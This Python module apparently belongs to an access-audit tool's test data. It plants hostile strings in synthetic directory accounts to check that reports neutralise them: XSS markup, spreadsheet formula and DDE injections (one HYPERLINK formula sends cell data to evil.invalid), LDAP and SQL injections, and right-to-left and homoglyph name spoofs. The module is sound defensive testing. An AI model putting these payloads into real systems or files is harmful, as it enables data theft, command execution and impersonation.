"""Hostile and Unicode text in the sample directory: attacker-controlled strings where an
attacker can write them.

Directory text is attacker-controlled, so the sample carries markup, spreadsheet formulas, LDAP
filter fragments, SQL and Unicode tricks (right-to-left overrides, zero-width joiners,
homoglyphs): :func:`plant_hostile_text` puts :data:`HOSTILE` in the descriptions of a few random
members of staff and :data:`HOSTILE_NAMES` in the display names of the first of them (synced to
Entra with the rest of the account), never in an attribution signal (the DN keeps the person's
name); two odd groups carry hostile text in their name or description
(:mod:`accessaudit.sample.groups`) and the application exports some more
(:mod:`accessaudit.sample.apps`). No truth rows: the text must change no finding, and every
output must render it inert.
"""

from __future__ import annotations

from typing import Final

import numpy as np
import polars as pl

#: Directory text is attacker-controlled: these land in display names and descriptions.
HOSTILE: Final = (
    "<script>window.__xss=1</script>",
    '"><img src=x onerror="window.__xss=1">',
    '=HYPERLINK("http://evil.invalid/?q="&A1,"Click for payslip")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "*)(uid=*",
    "*)(|(objectClass=*)",
    "Robert'); DROP TABLE users;--",
    "\u202eexe.tnemyap",
    "zero\u200bwidth\u200djoiner",
    "</script><script>window.__xss=1</script>",
    "<svg onload=window.__xss=1>",
    "+44 1905 000000",
    "-1+1",
    "\tTabbed",
)

#: ... and these in display names (of accounts that also carry a hostile description): markup,
#: spreadsheet formulas, an LDAP filter, and the Unicode tricks that make one name look like
#: another: a right-to-left override (U+202E), a zero-width joiner (U+200D), and homoglyphs
#: (Cyrillic "а" U+0430 and "А" U+0410 for Latin a and A).
HOSTILE_NAMES: Final = (
    "<script>window.__xss=1</script>",
    '=HYPERLINK("http://evil.invalid/?q="&A1,"Click for payslip")',
    "*)(uid=*",
    "Rhys Evans \u202egpj.exe",
    "Si\u00e2n\u200dJones",
    "D\u0430fydd Jones",
    "\u0410dministrator",
    '"><img src=x onerror="window.__xss=1">',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def plant_hostile_text(
    rng: np.random.Generator, people: pl.DataFrame, accounts: pl.DataFrame
) -> pl.DataFrame:
    """``accounts`` with hostile descriptions and display names on a few of ``people``."""
    host = pl.Series(HOSTILE)
    idx = rng.choice(people.height, size=min(people.height, len(HOSTILE)), replace=False)
    hostile_ids = people[idx.tolist()]["account_id"]
    named = hostile_ids[: len(HOSTILE_NAMES)]
    return accounts.with_columns(
        description=pl.when(pl.col("account_id").is_in(hostile_ids.to_list()))
        .then(
            pl.col("account_id").replace_strict(hostile_ids, host[: len(hostile_ids)], default=None)
        )
        .otherwise(pl.col("description")),
        display_name=pl.when(pl.col("account_id").is_in(named.implode()))
        .then(
            pl.col("account_id").replace_strict(
                named, pl.Series(HOSTILE_NAMES[: named.len()]), default=None
            )
        )
        .otherwise(pl.col("display_name")),
    )
